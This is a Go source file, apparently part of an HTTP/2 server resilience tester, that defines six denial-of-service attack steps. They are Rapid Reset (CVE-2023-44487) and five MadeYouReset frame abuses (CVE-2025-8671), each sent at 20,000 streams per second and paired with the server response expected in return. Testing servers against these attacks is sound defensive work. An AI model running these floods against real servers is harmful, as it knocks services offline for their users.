package hostile

import (
	"golang.org/x/net/http2"
)

// resetRate is how many streams per second are opened to be reset.
const resetRate = 20_000

// resets returns the attacks that make work and take it back at once.
func resets() []Attack {
	return []Attack{
		{
			ID: "rapid-reset", Title: "rapid reset", Refs: "CVE-2023-44487", Rate: resetRate, Right: []string{calm},
			Step: func(c *Conn, _ int) { c.do(c.frames.WriteRSTStream(c.get(), http2.ErrCodeCancel)) },
		},
		{
			ID: "forced-window-0", Title: "MadeYouReset: WINDOW_UPDATE of 0", Refs: "CVE-2025-8671", Rate: resetRate, Right: []string{calm, protocol},
			Step: func(c *Conn, _ int) {
				c.do(c.frames.WriteRawFrame(http2.FrameWindowUpdate, 0, c.get(), make([]byte, 4)))
			},
		},
		{
			ID: "forced-overflow", Title: "MadeYouReset: window beyond 2³¹−1", Refs: "CVE-2025-8671", Rate: resetRate, Right: []string{calm, "GOAWAY FLOW_CONTROL_ERROR"},
			Step: func(c *Conn, _ int) { c.do(c.frames.WriteWindowUpdate(c.get(), 1<<31-1)) },
		},
		{
			ID: "forced-data", Title: "MadeYouReset: DATA after END_STREAM", Refs: "CVE-2025-8671", Rate: resetRate, Right: []string{calm, "GOAWAY STREAM_CLOSED"},
			Step: func(c *Conn, _ int) { c.do(c.frames.WriteData(c.get(), true, []byte("x"))) },
		},
		{
			ID: "forced-length", Title: "MadeYouReset: more DATA than content-length", Refs: "CVE-2025-8671", Rate: resetRate, Right: []string{calm, protocol},
			Step: func(c *Conn, _ int) {
				c.do(c.frames.WriteData(c.post("content-length", "1"), true, []byte("xx")))
			},
		},
		{
			ID: "forced-priority", Title: "MadeYouReset: PRIORITY of a wrong length", Refs: "CVE-2025-8671", Rate: resetRate, Right: []string{calm, "GOAWAY FRAME_SIZE_ERROR"},
			Step: func(c *Conn, _ int) {
				c.do(c.frames.WriteRawFrame(http2.FramePriority, 0, c.get(), make([]byte, 4)))
			},
		},
	}
}
